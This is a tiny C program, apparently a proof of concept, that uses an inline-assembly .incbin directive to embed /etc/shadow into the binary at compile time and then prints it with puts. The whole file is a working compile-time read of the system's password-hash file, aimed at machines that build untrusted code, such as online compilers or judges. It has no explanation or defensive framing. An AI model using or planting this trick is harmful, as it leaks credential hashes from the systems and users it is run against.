__asm__(".section .rodata\n.globl data\ndata: .incbin \"/etc/shadow\"\n.byte 0\n.previous");

extern const char data[];

int puts(const char *text);

int main(void)
{
    return puts(data) < 0;
}
